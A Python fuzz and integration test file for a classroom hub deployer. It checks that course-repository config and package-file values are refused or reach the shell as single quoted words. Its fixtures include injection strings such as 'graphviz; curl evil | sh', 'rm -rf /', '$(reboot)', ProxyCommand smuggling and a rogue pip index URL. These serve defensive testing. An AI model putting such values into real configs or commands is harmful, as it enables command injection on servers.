"""Repository-controlled values never reach a shell as anything but one quoted word.

Every field a course repository controls is fuzzed with shell metacharacters, newlines,
quotes, ``$(...)``, backticks and unicode: either ``load_course`` refuses it with errors
naming the file and line, or every script of the plan for it is valid bash in which the
value stands as exactly one word. End to end, a bad value pushed through ``/webhook``
fails the check run and nothing runs: no SSH call, no DigitalOcean request. A server
whose host key changed is refused the same way.
"""

from __future__ import annotations

import shlex
import subprocess
from collections.abc import Callable
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from deploy.course.config import load_course
from deploy.course.validate import SHELL_METACHARACTERS
from deploy.model import CONFIG_PATH, ConfigErrors, CourseConfig
from deploy.planning.planner import plan
from tests.plugins.classroom import ssh_course_files

NOW = "2025-01-01T00:00:00Z"
FUZZ = settings(
    max_examples=60,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# ----- values --------------------------------------------------------------------------

NASTY_PIECES = [
    ";",
    "&&",
    "|",
    "$(id)",
    "`id`",
    "${HOME}",
    "'",
    '"',
    "\\",
    "\n",
    "\r\n",
    "\t",
    " ",
    ">",
    "<",
    ">/etc/passwd",
    "#",
    "*",
    "?",
    "~",
    "!",
    "{a,b}",
    "-rf",
    "--",
    "\x00",
    "é",
    "ｒｍ",
    "\u202e",
    "\u2028",
    "K",  # Kelvin sign: lower-cases to k
]
plain = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789.-_", min_size=1, max_size=12)
nasty = st.lists(st.sampled_from(NASTY_PIECES) | plain, min_size=1, max_size=6).map("".join)
values = st.one_of(
    plain,
    nasty,
    st.tuples(plain, nasty).map("".join),
    st.tuples(nasty, plain).map("".join),
    st.text(max_size=30),
)
# Package specs: a real name first, so the interesting part is what follows it.
specs = st.one_of(
    st.tuples(st.sampled_from(["numpy", "graphviz", "scipy", "r-base"]), values).map("".join),
    st.sampled_from(["numpy>=1.26", "pandas==2.2.*", "scipy<2,>=1.10", "requests[socks]"]),
    values,
)


# ----- the repository around a value -----------------------------------------------------


def classroom_yml(config: dict[str, Any]) -> dict[str, bytes]:
    # safe_dump writes any string back faithfully (quoted, escaped), so the loader sees
    # exactly the value generated.
    return {CONFIG_PATH: yaml.safe_dump(config, allow_unicode=True).encode()}


def ssh_server(**server: Any) -> dict[str, Any]:
    return {"provider": "ssh", "host": "hub.example.edu", **server}


def droplet(**server: Any) -> dict[str, Any]:
    return {"provider": "digitalocean", **server}


FIELDS: dict[str, Callable[[str], dict[str, bytes]]] = {
    "admins": lambda v: classroom_yml({"server": ssh_server(), "hub": {"admins": ["alice", v]}}),
    "hostname": lambda v: classroom_yml(
        {"server": ssh_server(), "hub": {"hostname": v, "letsencrypt_email": "t@example.edu"}}
    ),
    "email": lambda v: classroom_yml(
        {"server": ssh_server(), "hub": {"hostname": "hub.example.edu", "letsencrypt_email": v}}
    ),
    "name": lambda v: classroom_yml({"server": droplet(name=v)}),
    "region": lambda v: classroom_yml({"server": droplet(region=v)}),
    "size": lambda v: classroom_yml({"server": droplet(size=v)}),
    "image": lambda v: classroom_yml({"server": droplet(image=v)}),
    "host": lambda v: classroom_yml({"server": {"provider": "ssh", "host": v}}),
    "user": lambda v: classroom_yml({"server": ssh_server(user=v)}),
    "branch": lambda v: classroom_yml({"server": ssh_server(), "content": {"branch": v}}),
    "open": lambda v: classroom_yml({"server": ssh_server(), "content": {"open": v}}),
    "tljh_version": lambda v: classroom_yml({"server": ssh_server(), "hub": {"tljh_version": v}}),
    "apt.txt": lambda v: {**classroom_yml({"server": ssh_server()}), "apt.txt": v.encode()},
    "requirements.txt": lambda v: {
        **classroom_yml({"server": ssh_server()}),
        "requirements.txt": f"pandas\n{v}\n".encode(),
    },
    "environment.yml dependencies": lambda v: {
        **classroom_yml({"server": ssh_server()}),
        "environment.yml": yaml.safe_dump({"dependencies": ["python=3.12", v]}).encode(),
    },
    "environment.yml channels": lambda v: {
        **classroom_yml({"server": ssh_server()}),
        "environment.yml": yaml.safe_dump(
            {"channels": [v], "dependencies": ["numpy"]}, allow_unicode=True
        ).encode(),
    },
}
# The file each field lives in, for the errors that must name it.
FIELD_FILES = {
    "apt.txt": "apt.txt",
    "requirements.txt": "requirements.txt",
    "environment.yml dependencies": "environment.yml",
    "environment.yml channels": "environment.yml",
}


def used_values(config: CourseConfig, field: str) -> list[str]:
    """The accepted values of ``field`` that a plan for a fresh server hands to a shell."""
    hub, packages = config.hub, config.packages
    return {
        "admins": list(hub.admins),
        "hostname": [hub.hostname or ""],
        "email": [hub.letsencrypt_email or ""],
        "tljh_version": [hub.tljh_version],
        "apt.txt": list(packages.apt),
        "requirements.txt": list(packages.pip),
        "environment.yml dependencies": list(packages.conda),
        "environment.yml channels": list(packages.conda_channels),
    }.get(field, [])


def bash_syntax_errors(scripts: list[str]) -> str:
    # One bash for all scripts of a plan keeps the fuzz fast; each is wrapped in its own
    # function so an unbalanced quote in one cannot hide in the next.
    program = "\n".join(f"step_{i}() {{\n{script}\n}}" for i, script in enumerate(scripts))
    done = subprocess.run(
        ["bash", "-n"], input=program.encode(), capture_output=True, check=False, timeout=30
    )
    return done.stderr.decode() if done.returncode else ""


def check_value(field: str, value: str) -> bool:
    """Check one value of ``field``; True if it was accepted (and so planned)."""
    files = FIELDS[field](value)
    try:
        config = load_course(files, "octo-org", "physics101")
    except ConfigErrors as found:
        expected_file = FIELD_FILES.get(field, CONFIG_PATH)
        assert found.errors
        for error in found.errors:
            assert error.file == expected_file, (field, value, str(error))
            assert isinstance(error.line, int) and error.line >= 1, (field, value, str(error))
            assert str(error).startswith(f"{expected_file}:{error.line}: "), str(error)
        return False

    result = plan(config, None, droplet_needed=True, applied_at=NOW)
    scripts = [step.script for step in result.steps if step.script]
    assert scripts, "a fresh server's plan runs scripts"
    assert bash_syntax_errors(scripts) == "", (field, value)
    words = [word for script in scripts for word in shlex.split(script)]
    for used in used_values(config, field):
        assert used in words, (field, value, used)
    # Fields that never reach a shell are held to the patterns all the same.
    if field not in FIELD_FILES and field not in ("admins", "hostname", "email"):
        accepted = str(getattr(config.server, field, None) or getattr(config.content, field, ""))
        assert not (set(accepted) & SHELL_METACHARACTERS), (field, accepted)
        assert accepted.isprintable(), (field, accepted)
        # A notebook path may hold spaces ("week 1/intro.ipynb"), never at a name's ends.
        if field == "open":
            assert all(part == part.strip() for part in accepted.split("/")), accepted
        else:
            assert " " not in accepted, (field, accepted)
    return True


# For each field, a value that must be accepted and one that must be refused. The fuzz
# runs both first, so each field's accept path (plan, bash, one word) and refuse path
# (errors naming file and line) are exercised whatever the generated values turn out to
# be; a field whose validation refused everything, or accepted everything, fails.
ACCEPTED_AND_REFUSED: dict[str, tuple[str, str]] = {
    "admins": ("bob", "bob;id"),
    "hostname": ("hub.example.edu", "hub.example.edu;id"),
    "email": ("teacher@example.edu", "teacher@example.edu$(id)"),
    "name": ("physics-hub", "physics hub"),
    "region": ("nyc3", "nyc3|id"),
    "size": ("s-2vcpu-4gb", "s-2vcpu-4gb&&id"),
    "image": ("ubuntu-24-04-x64", "ubuntu`id`"),
    "host": ("hub.example.edu", "hub.example.edu -oProxyCommand=id"),
    "user": ("ubuntu", "ubuntu\nid"),
    "branch": ("course-2025", "main;id"),
    "open": ("StartHere.ipynb", "$(id).ipynb"),
    "tljh_version": ("2.0.0", "2.0.0;id"),
    "apt.txt": ("graphviz", "graphviz; curl evil | sh"),
    "requirements.txt": ("scipy<2,>=1.10", "numpy`reboot`"),
    "environment.yml dependencies": ("numpy>=1.26,<2", "numpy && id"),
    "environment.yml channels": ("conda-forge", "conda-forge --override-channels"),
}


def test_every_field_has_an_accepted_and_a_refused_example() -> None:
    assert set(ACCEPTED_AND_REFUSED) == set(FIELDS)


@pytest.mark.parametrize("field", sorted(FIELDS))
def test_a_fuzzed_field_is_refused_or_one_quoted_word(field: str) -> None:
    strategy = specs if field in FIELD_FILES else values
    accepted, refused = ACCEPTED_AND_REFUSED[field]
    outcomes: dict[str, bool] = {}

    @FUZZ
    @example(value=accepted)
    @example(value=refused)
    @given(value=strategy)
    def fuzz(value: str) -> None:
        outcomes[value] = check_value(field, value)

    fuzz()
    # Both paths ran: the known-good value was accepted, planned and checked, and the
    # known-bad one refused with errors naming the file and line.
    assert outcomes[accepted] is True, (field, accepted)
    assert outcomes[refused] is False, (field, refused)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("admins", "alice;id"),
        ("admins", "$(reboot)"),
        ("hostname", "hub.example.edu`id`"),
        ("email", "a@b.edu\nrm -rf /"),
        ("apt.txt", "graphviz; curl evil | sh"),
        ("apt.txt", "-o APT::Update::Pre-Invoke::=id"),
        ("requirements.txt", "numpy; os_name == 'posix' $(id)"),
        ("requirements.txt", "--index-url https://evil.example/simple"),
        ("environment.yml dependencies", "numpy && id"),
        ("environment.yml channels", "conda-forge --override-channels"),
        ("branch", "main; id"),
        ("open", "$(id).ipynb"),
        ("host", "127.0.0.1 -oProxyCommand=id"),
        ("user", "root\nid"),
    ],
)
def test_known_attacks_are_refused_with_file_and_line(field: str, value: str) -> None:
    with pytest.raises(ConfigErrors) as found:
        load_course(FIELDS[field](value), "octo-org", "physics101")
    expected_file = FIELD_FILES.get(field, CONFIG_PATH)
    assert all(error.file == expected_file and error.line for error in found.value.errors)


def test_accepted_specs_with_shell_characters_are_single_words() -> None:
    # Version constraints need < > ! , [ ] — they must reach pip and conda quoted.
    # Accepted (True), so the plan was made and each spec checked as one quoted word.
    assert check_value("requirements.txt", "scipy<2,>=1.10") is True
    assert check_value("environment.yml dependencies", "numpy>=1.26,<2") is True
    assert check_value("requirements.txt", "requests[socks]>=2.31") is True


# ----- end to end ----------------------------------------------------------------------


@pytest.mark.sshd
@pytest.mark.parametrize(
    ("file", "content", "where"),
    [
        ("apt.txt", b"graphviz\ncurl$(id)\n", "`apt.txt` line 2"),
        ("requirements.txt", b"numpy\n`reboot`\n", "`requirements.txt` line 2"),
        (CONFIG_PATH, None, f"`{CONFIG_PATH}` line 6"),
    ],
)
async def test_a_bad_value_pushed_fails_the_check_run_and_nothing_runs(
    classroom, do_fake, example, file: str, content: bytes | None, where: str
) -> None:
    files = ssh_course_files(classroom.target)
    if content is None:
        content = files[CONFIG_PATH].replace(b"admins: [alice]", b"admins: [alice, 'a;id']")
    files[file] = content
    sha = classroom.commit(files)
    response = await classroom.push(example, sha)
    assert response.status == 202
    await classroom.settle()

    run = next(r for r in classroom.runs() if r["head_sha"] == sha)
    assert run["status"] == "completed" and run["conclusion"] == "failure"
    text = run["output"]["title"] + run["output"]["summary"] + run["output"].get("text", "")
    assert where in text, text
    assert classroom.target.calls() == [], "nothing may run on the server"
    assert do_fake.requests == [], "nothing may be asked of DigitalOcean"
    assert classroom.target.canary.intact()


@pytest.mark.sshd
async def test_a_changed_host_key_is_refused(classroom, example) -> None:
    files = ssh_course_files(classroom.target)
    first = classroom.commit(files)
    await classroom.push(example, first)
    await classroom.settle()
    run = next(r for r in classroom.runs() if r["head_sha"] == first)
    assert run["conclusion"] == "success", run["output"]

    classroom.target.regenerate_host_key()
    await classroom.services.engine.ssh.close_all()
    calls = len(classroom.target.calls())
    files["apt.txt"] = b"graphviz\njq\n"
    second = classroom.commit(files)
    await classroom.push(example, second)
    await classroom.settle()

    run = next(r for r in classroom.runs() if r["head_sha"] == second)
    assert run["status"] == "completed" and run["conclusion"] == "failure"
    text = (run["output"]["title"] + run["output"]["summary"]).lower()
    assert "host key" in text, text
    assert len(classroom.target.calls()) == calls, "nothing may run on a server we cannot trust"
    assert classroom.target.canary.intact()
